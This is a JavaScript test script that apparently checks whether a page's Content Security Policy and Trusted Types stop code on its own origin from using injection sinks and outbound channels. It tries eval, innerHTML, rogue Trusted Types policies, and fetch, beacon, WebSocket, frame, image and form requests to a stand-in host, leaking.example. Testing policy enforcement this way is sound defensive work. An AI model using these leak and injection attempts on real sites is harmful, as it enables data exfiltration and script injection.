// Page code of our own origin, as somebody would have it who can change one file. Each try tells how it ended.
const ended = {};
const attempt = async (name, act) => {
  ended[name] = await Promise.race([
    Promise.resolve().then(act).then((value) => (value === undefined ? "done" : String(value)), (error) => error.name),
    new Promise((resolve) => setTimeout(resolve, 3000, "nothing")),
  ]);
};
const loads = (element, address) => new Promise((resolve, reject) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => reject(new TypeError());
  element.src = address;
  document.body.append(element);
});
const socket = (address) => new Promise((resolve, reject) => {
  const one = new WebSocket(address);
  one.onopen = () => resolve("open");
  one.onerror = () => reject(new TypeError());
});
await attempt("eval", () => eval("1"));
await attempt("Function", () => new Function("return 1")());
await attempt("timer of text", () => { setTimeout("window.ran = 1", 0); });
await attempt("innerHTML", () => { document.createElement("p").innerHTML = "<b>x</b>"; });
await attempt("outerHTML", () => { document.body.firstElementChild.outerHTML = "<b>x</b>"; });
await attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"));
await attempt("document.write", () => document.write("<b>x</b>"));
await attempt("fragment", () => { document.createRange().createContextualFragment("<b>x</b>"); });
await attempt("DOMParser", () => { new DOMParser().parseFromString("<b>x</b>", "text/html"); });
await attempt("srcdoc", () => { document.createElement("iframe").srcdoc = "<b>x</b>"; });
await attempt("setHTMLUnsafe", () => document.createElement("p").setHTMLUnsafe("<b>x</b>"));
await attempt("script text", () => { document.createElement("script").textContent = "window.ran = 1"; });
await attempt("script address", () => { document.createElement("script").src = "/static/x.js"; });
await attempt("handler attribute", () => { document.body.setAttribute("onclick", "window.ran = 1"); });
await attempt("worker of text", () => { new Worker("/static/x.js"); });
await attempt("a policy of its own", () => { trustedTypes.createPolicy("mine", { createHTML: (text) => text }); });
await attempt("a policy that nobody made", () => { trustedTypes.createPolicy("dompurify", { createHTML: (text) => text }); });
await attempt("the default policy again", () => { trustedTypes.createPolicy("default", { createHTML: (text) => text }); });
await attempt("the worker's policy again", () => { trustedTypes.createPolicy("worker-url", { createScriptURL: (url) => url }); });
await attempt("import of data", () => import("data:text/javascript,window.ran=1"));
await attempt("import from elsewhere", () => import("https://leaking.example/x.js"));
await attempt("fetch", () => fetch("https://leaking.example/fetch", { mode: "no-cors" }).then(() => "answered"));
await attempt("beacon", () => { if (!navigator.sendBeacon("https://leaking.example/beacon", "x")) throw new TypeError(); });
await attempt("websocket", () => socket("wss://leaking.example/socket"));
await attempt("event source", () => loads(new EventSource("https://leaking.example/events"), ""));
await attempt("picture", () => loads(new Image(), "https://leaking.example/picture"));
await attempt("frame", () => loads(document.createElement("iframe"), "https://leaking.example/frame").then(() => "loaded"));
await attempt("style", () => {
  document.head.append(Object.assign(document.createElement("style"), { textContent: "body { --probed: 1 }" }));
  return getComputedStyle(document.body).getPropertyValue("--probed") || "nothing";
});
await attempt("form", () => {
  const form = Object.assign(document.createElement("form"), { action: "https://leaking.example/form", method: "post" });
  document.body.append(form);
  form.submit();
});
await attempt("own fetch", () => fetch("/frame/blocked/").then(({ status }) => status));
document.documentElement.dataset.ended = JSON.stringify(ended);
